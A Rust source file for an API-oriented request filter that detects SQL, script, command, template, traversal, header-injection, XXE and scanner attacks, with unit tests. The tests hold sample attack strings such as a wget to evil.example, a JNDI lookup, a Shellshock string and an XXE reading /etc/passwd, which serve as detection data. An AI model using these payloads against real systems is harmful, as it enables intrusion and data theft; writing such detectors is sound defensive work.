//! What is inspected where no rule set is given: injected SQL and scripts by their tokens, and some patterns that have no
//! honest use in a value.
//!
//! It is made for APIs: a value that a person or a program may honestly send is left alone, even where that lets an attack pass which
//! a rule set finds. Each value is also looked at as it is when what it is coded in (twice) is decoded.

mod content;
mod decode;
mod patterns;

use std::fmt;

use crate::tokens;
use decode::Decoder;

/// A request to judge. Everything is as it came; nothing has to be text.
#[derive(Clone, Copy, Debug)]
pub struct Message<'a> {
    /// The path and the query.
    pub target: &'a [u8],
    /// The names, in lower case, and values of the header fields.
    pub fields: &'a [(&'a str, &'a [u8])],
    /// The beginning of the content, as far as it is to be inspected.
    pub content: &'a [u8],
}

/// What a request would do, and where that stands.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Finding {
    /// What it would do.
    pub kind: Kind,
    /// Where that stands.
    pub place: Place,
}

/// A kind of attack.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Kind {
    /// Injected SQL.
    Sql,
    /// An injected script.
    Script,
    /// A path out of the folder that was meant, or to a file that nobody has to read.
    Traversal,
    /// A line break and what would be a header field or a command of a mail server behind it.
    Line,
    /// A command of the operating system.
    Command,
    /// An expression for a template engine or a logger.
    Template,
    /// An expression for a directory or a database of documents.
    Query,
    /// An XML entity or document type.
    Entity,
    /// The name of a program that looks for weaknesses.
    Scanner,
}

impl Kind {
    /// A name for logs and metrics.
    pub fn name(self) -> &'static str {
        match self {
            Kind::Sql => "sql",
            Kind::Script => "script",
            Kind::Traversal => "traversal",
            Kind::Line => "line",
            Kind::Command => "command",
            Kind::Template => "template",
            Kind::Query => "query",
            Kind::Entity => "entity",
            Kind::Scanner => "scanner",
        }
    }
}

/// Where a value stands. It never holds the value.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum Place {
    /// The path of the request's target.
    Path,
    /// A parameter of the query, by its name.
    Parameter(String),
    /// A header field, by its name.
    Field(String),
    /// A cookie, by its name.
    Cookie(String),
    /// The request's content.
    Content,
}

impl fmt::Display for Place {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Place::Path => formatter.write_str("path"),
            Place::Parameter(name) => write!(formatter, "parameter {name}"),
            Place::Field(name) => write!(formatter, "header {name}"),
            Place::Cookie(name) => write!(formatter, "cookie {name}"),
            Place::Content => formatter.write_str("body"),
        }
    }
}

/// The first attack in a request, or `None`.
///
/// The time is linear in the size of the message. Nothing is kept of it but a shortened name.
pub fn judge(message: &Message<'_>) -> Option<Finding> {
    let mut judge = Judge::default();
    judge
        .target(message.target)
        .or_else(|| judge.fields(message.fields))
        .or_else(|| {
            let media_type = field(message.fields, "content-type");
            judge.content(media_type, message.content)
        })
}

/// Builds what the first judgement would otherwise have to wait for: some milliseconds of work that don't belong on a worker.
pub fn prepare() {
    patterns::prepare();
}

/// Fields whose values have a form of their own, in which nothing is taken for anything else.
const FORMAL: &[&str] = &[
    "accept",
    "accept-encoding",
    "accept-language",
    "authorization",
    "connection",
    "content-length",
    "content-type",
    "cookie",
    "date",
    "expect",
    "host",
    "if-match",
    "if-modified-since",
    "if-none-match",
    "if-unmodified-since",
    "keep-alive",
    "origin",
    "proxy-authorization",
    "range",
    "sec-websocket-key",
    "te",
    "traceparent",
    "transfer-encoding",
    "upgrade",
    "upgrade-insecure-requests",
    "x-forwarded-for",
    "x-forwarded-host",
    "x-forwarded-proto",
    "x-request-id",
];

/// Looks at one value after the other, with the same buffers.
#[derive(Default)]
struct Judge {
    decoder: Decoder,
}

impl Judge {
    fn target(&mut self, target: &[u8]) -> Option<Finding> {
        let mut parts = target.splitn(2, |byte| *byte == b'?');
        let path = parts.next().unwrap_or_default();
        let query = parts.next().unwrap_or_default();
        let path = decode::percent(path, false);
        let inner = path.strip_prefix(b"/").unwrap_or(&path);
        let found = if patterns::leaves_folder(&path) {
            Some(Kind::Traversal)
        } else {
            self.value(inner, Origin::Head)
        };
        if let Some(kind) = found {
            return Some(Finding {
                kind,
                place: Place::Path,
            });
        }
        content::form(query).find_map(|(name, value)| {
            let kind = self.pair(&name, &value, Origin::Head)?;
            let place = Place::Parameter(shown(&name));
            Some(Finding { kind, place })
        })
    }

    fn fields(&mut self, fields: &[(&str, &[u8])]) -> Option<Finding> {
        fields.iter().find_map(|(name, value)| {
            if *name == "cookie" {
                return content::cookies(value).find_map(|(name, value)| {
                    let kind = self.value(&decode::percent(value, false), Origin::Head)?;
                    let place = Place::Cookie(shown(name));
                    Some(Finding { kind, place })
                });
            }
            if FORMAL.contains(name) || name.starts_with("sec-") {
                return None;
            }
            let scanner = *name == "user-agent" && patterns::is_scanner(value);
            let kind = if scanner {
                Some(Kind::Scanner)
            } else {
                self.value(value, Origin::Head)
            };
            let place = Place::Field(shown(name.as_bytes()));
            Some(Finding { kind: kind?, place })
        })
    }

    fn content(&mut self, media_type: &[u8], content: &[u8]) -> Option<Finding> {
        let kind = content::values(media_type, content, &mut |value| match value {
            content::Value::Pair(name, value) => self.pair(name, value, Origin::Content),
            content::Value::Text(text) => self.value(text, Origin::Content),
            content::Value::Entity => Some(Kind::Entity),
        })?;
        let place = Place::Content;
        Some(Finding { kind, place })
    }

    fn pair(&mut self, name: &[u8], value: &[u8], origin: Origin) -> Option<Kind> {
        if patterns::is_operator(name) {
            return Some(Kind::Query);
        }
        self.value(value, origin).or_else(|| self.value(name, origin))
    }

    /// Judges a value, and what it is coded in.
    fn value(&mut self, value: &[u8], origin: Origin) -> Option<Kind> {
        if patterns::is_plain(value) {
            return self.decoder.base64(value).and_then(|decoded| kind(decoded, origin));
        }
        if origin == Origin::Head && value.contains(&0) {
            return Some(Kind::Traversal);
        }
        kind(value, origin).or_else(|| self.decoder.forms(value, |form| kind(form, origin)))
    }
}

/// Where a value comes from.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Origin {
    /// The path, the query, or a header field: no honest value there has several lines.
    Head,
    Content,
}

fn kind(value: &[u8], origin: Origin) -> Option<Kind> {
    if patterns::is_plain(value) {
        return None;
    }
    if let Some(kind) = patterns::kind(value, origin == Origin::Head) {
        return Some(kind);
    }
    if tokens::script(value) {
        return Some(Kind::Script);
    }
    tokens::sql_injection(value).map(|_| Kind::Sql)
}

fn field<'a>(fields: &[(&str, &'a [u8])], name: &str) -> &'a [u8] {
    fields
        .iter()
        .find(|(known, _)| *known == name)
        .map_or(b"", |(_, value)| value)
}

/// A name as it may stand in a log.
fn shown(name: &[u8]) -> String {
    name.iter()
        .take(64)
        .map(|byte| {
            if byte.is_ascii_graphic() {
                char::from(*byte)
            } else {
                '.'
            }
        })
        .collect()
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a test may panic")]
mod tests {
    use super::*;

    fn found(target: &str, fields: &[(&str, &[u8])], content: &str) -> Option<(Kind, String)> {
        let message = Message {
            target: target.as_bytes(),
            fields,
            content: content.as_bytes(),
        };
        judge(&message).map(|finding| (finding.kind, finding.place.to_string()))
    }

    #[track_caller]
    fn stopped(target: &str, fields: &[(&str, &[u8])], content: &str, kind: Kind, place: &str) {
        assert_eq!(
            found(target, fields, content),
            Some((kind, place.to_owned())),
            "{target} {content}"
        );
    }

    #[test]
    fn attacks_are_found_in_every_place() {
        let attack = "/?q=1'%20or%20'1'='1";
        stopped(attack, &[], "", Kind::Sql, "parameter q");
        stopped("/?a=1&1'+or+'1'%3D'1=x", &[], "", Kind::Sql, "parameter 1'.or.'1'='1");
        stopped("/x'%20or%20'1'='1", &[], "", Kind::Sql, "path");
        stopped("/", &[("x-name", b"<script>")], "", Kind::Script, "header x-name");
        stopped("/", &[("cookie", b"a=b; c=%3Cscript%3E")], "", Kind::Script, "cookie c");
        stopped(
            "/",
            &[("user-agent", b"sqlmap/1.7")],
            "",
            Kind::Scanner,
            "header user-agent",
        );
        let form: &[(&str, &[u8])] = &[("content-type", b"application/x-www-form-urlencoded")];
        stopped("/", form, "a=b&c=%3Cscript%3E", Kind::Script, "body");
        let json: &[(&str, &[u8])] = &[("content-type", b"application/json; charset=utf-8")];
        stopped("/", json, r#"{"a": ["\u003cscript>"]}"#, Kind::Script, "body");
        stopped("/", json, r#"{"' or 1=1--": 1}"#, Kind::Sql, "body");
        let xml: &[(&str, &[u8])] = &[("content-type", b"application/soap+xml")];
        stopped("/", xml, "<a><b>1 or 1=1</b></a>", Kind::Sql, "body");
        stopped("/", xml, "<a b='1&#32;or 1=1'/>", Kind::Sql, "body");
        stopped("/", xml, "<a><![CDATA[<script>]]></a>", Kind::Script, "body");
        stopped(
            "/",
            xml,
            "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a/>",
            Kind::Entity,
            "body",
        );
        let parts: &[(&str, &[u8])] = &[("content-type", b"multipart/form-data; boundary=\"x y\"")];
        let part = "--x y\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>\r\n--x y--\r\n";
        stopped("/", parts, part, Kind::Script, "body");
        let part = part
            .replace("\"a\"", "\"a\"; filename=\"../../b\"")
            .replace("<script>", "");
        stopped("/", parts, &part, Kind::Traversal, "body");
        stopped("/", &[], "<script>", Kind::Script, "body");
        stopped("/", &[], r#"{"a": "<script>"}"#, Kind::Script, "body");
    }

    #[test]
    fn each_kind_is_known_in_whatever_coding() {
        for (value, kind) in [
            ("..%2f..%2fetc%2fhosts", Kind::Traversal),
            ("..%252f..%252fx", Kind::Traversal),
            ("..%5c..%5cwin.ini", Kind::Traversal),
            ("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afx", Kind::Traversal),
            ("/static/../x", Kind::Traversal),
            ("/etc/passwd", Kind::Traversal),
            ("picture.png%00.php", Kind::Traversal),
            ("file:///etc/hosts", Kind::Traversal),
            ("x%0d%0aSet-Cookie:%20a=b", Kind::Line),
            ("x%0aLocation:%20//evil.example", Kind::Line),
            ("%e5%98%8d%e5%98%8aSet-Cookie:a", Kind::Line),
            (";%20cat%20/x", Kind::Command),
            ("1|id", Kind::Command),
            ("$(whoami)", Kind::Command),
            ("a%26%26wget%20http://evil.example/x", Kind::Command),
            ("() { :;}; echo x", Kind::Command),
            ("x;ping$IFS-c1$IFS;", Kind::Command),
            ("${jndi:ldap://evil.example/a}", Kind::Template),
            ("${${lower:j}ndi:x}", Kind::Template),
            ("%7B%7B7*7%7D%7D", Kind::Template),
            ("{{''.__class__}}", Kind::Template),
            ("*)(uid=*", Kind::Query),
            ("alert(1)", Kind::Script),
            ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", Kind::Script),
            ("%2527%2520or%25201=1--", Kind::Sql),
            (r"\u003cscript\u003e", Kind::Script),
        ] {
            stopped(&format!("/?a={value}"), &[], "", kind, "parameter a");
        }
        stopped("/?a[$ne]=1", &[], "", Kind::Query, "parameter a[$ne]");
        for path in ["/a/../../b", "/a/%2e%2e/b", "/a/..;/b", "/a/..%5cb", "/a%00"] {
            stopped(path, &[], "", Kind::Traversal, "path");
        }
    }

    #[test]
    fn honest_requests_pass() {
        let browser: &[(&str, &[u8])] = &[
            ("host", b"example.com"),
            (
                "user-agent",
                b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            ),
            (
                "accept",
                b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            ),
            ("referer", b"https://example.com/search?q=a+b&lang=en#top"),
            (
                "cookie",
                b"session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.AAAA; theme=dark; _ga=GA1.2.1.2",
            ),
            ("authorization", b"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.AAAA"),
            ("if-none-match", b"W/\"abc\""),
        ];
        for target in [
            "/",
            "/users/42",
            "/a%20b/c.html?x=1",
            "/?q=O'Brien",
            "/?q=rock+'n'+roll",
            "/?filter=price+gt+5+and+name+eq+'x'",
            "/?redirect=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc",
            "/?email=a%2Bb@example.com",
            "/?q=cat+%26+dog%3B+echo",
            "/?sort=-created,name&fields[user]=name",
            "/?q=C%23+or+C%2B%2B",
            "/?t=2026-11-22T18:00:00%2B01:00",
            "/?p=50%25+off",
            "/?q=see+etc.",
            "/?q=id",
            "/?q=a|b",
            "/.well-known/acme-challenge/x",
            "/?q=SELECT+a+plan",
            "/a..b/c...d",
        ] {
            assert_eq!(found(target, browser, ""), None, "{target}");
        }
        let json: &[(&str, &[u8])] = &[("content-type", b"application/json")];
        for content in [
            r#"{"name": "D'Arcy O'Neill", "note": "it's 5'10\"; isn't it?\nRegards,\nX"}"#,
            r##"{"text": "# Title\n\nUse `ls` and [a link](https://example.com/?a=b&c=d).\n\n- one; two\n- a | b"}"##,
            r#"{"html": "<p class=\"a\">text <b>bold</b> <a href=\"https://example.com\">link</a></p>"}"#,
            r#"{"mail": "Dear all,\r\n\r\nplease find the notes attached.\r\nBest\r\n--\r\nJane"}"#,
            r#"{"code": "fn main() { println!(\"{}\", x.len()); }", "price": 12.5, "tags": ["a", "b"], "ok": null}"#,
            r#"{"note": "Meet at 5\nLocation: Berlin\nHost: Ada"}"#,
            r#"{"template": "Hello {{name}}, you owe ${amount}"}"#,
            r#"{"path": "src/main.rs", "relative": "see ../README.md for more"}"#,
        ] {
            assert_eq!(found("/", json, content), None, "{content}");
        }
        let picture: &[(&str, &[u8])] = &[("content-type", b"image/png")];
        assert_eq!(found("/", picture, "\u{1}<script>"), None);
    }

    #[test]
    fn a_place_never_shows_a_value_and_is_short() {
        let name = "x".repeat(500);
        let (_, place) = found(&format!("/?{name}\u{1}=<script>secret"), &[], "").unwrap();
        assert!(place.len() < 80 && !place.contains("secret"), "{place}");
    }

    #[test]
    fn broken_content_is_looked_at_as_far_as_it_goes() {
        for (media_type, content) in [
            ("application/json", "{\"a\": \"\\"),
            ("application/json", "\"\\u12"),
            ("application/xml", "<a b='"),
            ("application/xml", "<![CDATA["),
            ("application/xml", "&#xffffffff;<"),
            ("multipart/form-data", "--"),
            ("multipart/form-data; boundary=", "--"),
            ("multipart/form-data; boundary=x", "--x\r\n\r\n--x"),
            ("multipart/form-data; boundary=\"", "--\"\n\n"),
            ("application/x-www-form-urlencoded", "&&=&%&=%2"),
        ] {
            assert_eq!(
                found("/", &[("content-type", media_type.as_bytes())], content),
                None,
                "{media_type} {content}"
            );
        }
    }
}
